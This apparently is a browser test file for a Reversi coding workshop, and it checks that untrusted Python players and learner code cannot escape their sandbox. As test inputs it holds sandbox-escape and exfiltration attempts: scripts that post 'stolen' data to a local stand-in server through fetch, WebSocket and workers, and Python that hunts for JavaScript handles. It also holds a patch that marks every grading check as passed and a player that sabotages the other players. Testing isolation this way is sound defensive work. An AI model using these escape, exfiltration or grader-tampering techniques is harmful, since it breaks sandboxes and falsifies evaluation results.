/** Programs in files from somebody else: what they try, and that nothing of it gets out. */
import assert from 'node:assert/strict';
import { createServer } from 'node:http';

const OFTEN = { polling: 50 };

/** A server of another origin that lets everybody in, and notes who comes. */
async function elsewhere() {
  const asked = [];
  const server = createServer((request, response) => {
    asked.push(request.url);
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' }).end('');
  });
  server.on('upgrade', (request, socket) => { asked.push(request.url); socket.destroy(); });
  await new Promise(resolve => server.listen(0, '127.0.0.1', resolve));
  return {
    asked,
    port: server.address().port,
    close() {
      server.closeAllConnections();
      return new Promise(resolve => server.close(resolve));
    },
  };
}

/** What JavaScript in a worker tries; the addresses say by what. */
const SCRIPT = (port, site) => `
  const ways = {
    fetch: to => fetch(to),
    post: to => fetch(to, { method: 'POST', mode: 'no-cors', body: 'stolen' }),
    xhr: to => { const request = new XMLHttpRequest(); request.open('GET', to, false); request.send(); },
    import: to => import(to),
    importScripts: to => importScripts(to),
    socket: to => new WebSocket(to.replace('http', 'ws')),
    events: to => new EventSource(to),
    worker: to => new Worker('data:text/javascript,fetch(' + JSON.stringify(to) + ')'),
    transport: to => new WebTransport(to.replace('http:', 'https:')),
  };
  for (const [name, go] of Object.entries(ways)) {
    try { Promise.resolve(go('http://127.0.0.1:${port}/' + name)).catch(() => {}); } catch {}
  }
  try { new BroadcastChannel('stolen').postMessage('stolen'); } catch {}
  try { indexedDB.open('stolen'); } catch {}
  try { caches.open('stolen').catch(() => {}); } catch {}
`;

/** What Python tries: \`attack(sys)\` answers with the ways that it has found to JavaScript. */
const ATTACK = port => `
SCRIPT = ${JSON.stringify(SCRIPT(port))}
HERE = "http://127.0.0.1:${port}/"


def roots(sys):
    bring = sys.modules["builtins"].__import__
    fetch = lambda name: bring(name, fromlist=["x"])
    yield "js", lambda: fetch("js")
    yield "pyodide_js", lambda: fetch("pyodide_js")
    yield "run_js", lambda: fetch("pyodide.code").run_js("globalThis")
    yield "core", lambda: fetch("_pyodide_core")
    yield "ffi", lambda: fetch("pyodide.ffi").create_proxy(print)
    yield "http", lambda: fetch("pyodide.http").open_url(HERE + "open_url")
    yield "modules", lambda: sys.modules["js"]
    for finder in sys.meta_path:
        yield "finder", lambda: finder.find_spec("js", None, None).loader.jsproxy
        yield "finder", lambda: finder.jsproxies["js"]
    for name, module in list(sys.modules.items()):
        yield name, lambda: module.__dict__["js"]
        yield name, lambda: module.__dict__["pyodide_js"]
    gc = fetch("gc")
    for held in gc.get_objects():
        if type(held).__name__.startswith("JsProxy"):
            yield "object", lambda: held
        for cell in getattr(held, "__closure__", None) or ():
            if type(cell.cell_contents).__name__.startswith("JsProxy"):
                yield "cell", lambda: cell.cell_contents


def attack(sys):
    found = set()
    for name, take in roots(sys):
        try:
            root = take()
        except BaseException:
            continue
        for way, go in (
            ("eval", lambda: root.eval(SCRIPT)),
            ("Function", lambda: root.Function.new(SCRIPT)()),
            ("constructor", lambda: root.constructor(SCRIPT)()),
            ("made", lambda: root.constructor.constructor(SCRIPT)()),
            ("timer", lambda: root.setTimeout(SCRIPT, 0)),
            ("fetch", lambda: root.fetch(HERE + "js.fetch")),
            ("worker", lambda: root.Worker.new("data:text/javascript," + SCRIPT)),
            ("channel", lambda: root.BroadcastChannel.new("stolen").postMessage("stolen")),
            ("database", lambda: root.indexedDB.open("stolen")),
        ):
            try:
                go()
                found.add(name + "." + way)
            except BaseException:
                pass
    try:
        bring = sys.modules["builtins"].__import__
        bring("socket").create_connection(("127.0.0.1", ${port}), 1)
        found.add("socket")
    except BaseException:
        pass
    return sorted(found)
`;

const PLAYER = port => `${ATTACK(port)}
import sys


def choose(game):
    return attack(sys)
`;

const LEARNER = port => `import dataclasses
${ATTACK(port)}

print("found", attack(dataclasses.sys))
`;

/** A text that marks everything as passed from now on, wherever it runs. */
const PATCH = `import dataclasses

for name, module in list(dataclasses.sys.modules.items()):
    if {"mark", "Learner"} <= {*vars(module)}:  # hasattr would run what is late, which takes its time
        from reversi.workshop.results import Marked, Passed
        keys = ("disc", "square", "board", "start", "count", "draw")
        module.mark = lambda *_, **__: Marked(tuple(map(Passed, keys)), None, "marked by the patch")
print("it is patched")
`;

/** A player that has every other one fail from now on, wherever it runs. */
const EVIL = `import sys


def fail(*_):
    raise RuntimeError


def choose(game):
    module = sys.modules["reversi.shells.browser.workshop.arena"]
    module.ArenaPlayers.choose = module.chosen = fail
    return game.moves[0].square
`;

const HONEST = 'def choose(game):\n    return game.moves[-1].square\n';

const work = (name, key, code) => JSON.stringify({ reversi_workshop: 1, name, work: { [key]: code }, done: [] });

const says = (page, words) => page.waitForFunction(words => document.getElementById('app').textContent.includes(words), OFTEN, words);

/** Hear what the site's other pages hear. */
function overhear() {
  globalThis.overheard = [];
  new BroadcastChannel('stolen').onmessage = ({ data }) => globalThis.overheard.push(data);
}

/** What has reached the other server, the site's other pages, its databases and its caches. */
async function gotOut(page, other, from) {
  await page.evaluate(() => new Promise(resolve => { setTimeout(resolve, 500); }));   // what was sent may be on its way
  const inside = await page.evaluate(async () => {
    const databases = indexedDB.databases ? await indexedDB.databases().catch(() => []) : [];
    const stores = globalThis.caches ? await caches.keys().catch(() => []) : [];
    return [...globalThis.overheard, ...databases.map(each => each.name), ...stores].filter(each => each === 'stolen');
  });
  return { from, asked: [...other.asked], inside };
}

const NOTHING = from => ({ from, asked: [], inside: [] });

export function foreign(setting) {
  setting.onFirstVisit('a player from somebody\'s file reaches neither another site nor this one\'s storage', async visit => {
    const other = await elsewhere(), { page } = visit;
    try {
      const person = await visit.opens(setting.url);
      await person.seesReady();
      await page.evaluate(overhear);
      await person.opensSheet('share');
      await brings(page, '.share input[type="file"]', [['work.json', work('Mallory', 'player', PLAYER(other.port))]]);
      await says(page, 'Use the player Mallory?');
      await setting.picture(person, 'player-offered');
      await person.presses('Use it');
      await page.click('#player-white');
      await page.waitForSelector('#players');
      await person.presses('Mallory');
      await person.presses('Play');
      await person.clicks('d3');
      await says(page, 'Mallory must answer');
      const said = await page.$eval('.notices .notice', notice => notice.textContent);
      const out = await gotOut(page, other, 'a player');
      await page.evaluate(script => {
        globalThis.bound = new Worker(`data:text/javascript,${encodeURIComponent(script)}`, { type: 'module' });
      }, SCRIPT(other.port));
      const bare = await gotOut(page, other, 'a worker that nothing confines but the policy');
      visit.forgive({ later: true });

      assert.match(said, /answered \[\] \(list\)/);
      assert.deepEqual(out, NOTHING('a player'));
      assert.deepEqual(bare, NOTHING('a worker that nothing confines but the policy'));
    } finally {
      await other.close();
    }
  });
}

/** Put a text into the workshop's editor, as if it were pasted there. */
const pastes = (page, text) => page.evaluate(text => {
  const editor = document.querySelector('code-editor');
  editor.value = text;
  editor.dispatchEvent(new Event('input', { bubbles: true }));
}, text);

const press = async (page, name) => {
  const found = await page.waitForSelector(`xpath///button[normalize-space(.)="${name}"][not(@disabled)]`, OFTEN);
  await found.evaluate(button => button.click());
};

/** Give the field `selector` files to read. */
const brings = (page, selector, files) => page.evaluate((selector, files) => {
  const given = new DataTransfer(), input = document.querySelector(selector);
  for (const [name, text] of files) given.items.add(new File([text], name));
  input.files = given.files;
  input.dispatchEvent(new Event('change', { bubbles: true }));
}, selector, files);

const checksSay = (page, words) => page.waitForFunction(
  words => document.querySelector('.shop-checks')?.textContent.includes(words), OFTEN, words);

/** Run the checks of the first chapter on its starter, which passes none. */
async function runsTheStarter(page) {
  await page.waitForSelector('#game >>> *', OFTEN);
  await press(page, 'Run the checks');
  await checksSay(page, '0 of 6 checks pass');
}

export function foreignWork(setting) {
  setting.onFirstVisit('a learner\'s text reaches nothing outside, and spoils the marks of no other text', async visit => {
    const other = await elsewhere(), { page } = visit;
    try {
      await page.goto(setting.workshop, { waitUntil: 'domcontentloaded' });
      await runsTheStarter(page);
      await page.evaluate(overhear);
      const starter = await page.$eval('code-editor', editor => editor.value);
      await pastes(page, LEARNER(other.port));
      await checksSay(page, 'found');
      const printed = await page.$eval('.shop-checks', checks => checks.textContent);
      const out = await gotOut(page, other, 'a learner\'s text');
      await pastes(page, PATCH);
      await checksSay(page, 'it is patched');
      await pastes(page, starter);
      await page.waitForFunction(() => !document.querySelector('.shop-checks').textContent.includes('it is patched'), OFTEN);
      await runsTheStarter(page);
      assert.match(printed, /found \[\]/);
      assert.deepEqual(out, NOTHING('a learner\'s text'));
    } finally {
      await other.close();
    }
  });
}

/** What somebody's file has, where it is asked about and what it does to others in the same page. */
export function foreignFiles(setting) {
  setting.inOneBrowser.onFirstVisit('the work in somebody\'s file runs only once the person has said so', async visit => {
    const { page } = visit;
    await page.goto(setting.workshop, { waitUntil: 'domcontentloaded' });
    await runsTheStarter(page);
    await brings(page, '.shop-work input[type="file"]', [['work.json', work('Mallory', 'values', 'print("it runs")')]]);
    await says(page, 'The file of Mallory has code for one chapter.');
    await setting.picture(visit.person, 'workshop-import-question');
    const before = await page.$eval('code-editor', editor => editor.value);
    await press(page, 'Replace mine');
    await checksSay(page, 'it runs');

    assert.doesNotMatch(before, /it runs/);
  });

  setting.inOneBrowser.onFirstVisit('a player of the arena that changes the Python it runs in changes nobody else\'s', async visit => {
    const { page } = visit;
    await page.goto(`${setting.workshop}#arena`, { waitUntil: 'domcontentloaded' });
    await page.waitForSelector('#bring', OFTEN);
    await brings(page, '#bring', [
      ['evil.json', work('Evil', 'player', EVIL)], ['ann.json', work('Ann', 'player', HONEST)],
    ]);
    await page.waitForSelector('button[aria-label="Remove Ann"]', OFTEN);
    await page.select('.shop-arena select[aria-label="Add a player of the game"]', 'level-2');
    await page.waitForSelector('button[aria-label="Remove Level 2"]', OFTEN);
    await page.select('.shop-arena select[aria-label="Games for each pair"]', '2');
    await press(page, 'Start');
    await page.waitForFunction(
      () => /^All 6 games have been played/.test(document.querySelector('.shop-arena-match [role=status]')?.textContent),
      OFTEN);
    const lost = await page.$$eval('section[aria-label="Games lost by failure"] li', items => items.map(item => item.textContent));
    const others = await page.$$eval('.shop-table tbody tr', rows => rows.map(row => row.textContent).filter(row => !row.startsWith('Evil')));
    visit.forgive({ later: true });   // Evil's worker ends with an error, which Firefox reports

    assert.deepEqual(lost.filter(each => !each.includes(': Evil lost')), []);
    assert.equal(others.length, 2);
  });
}
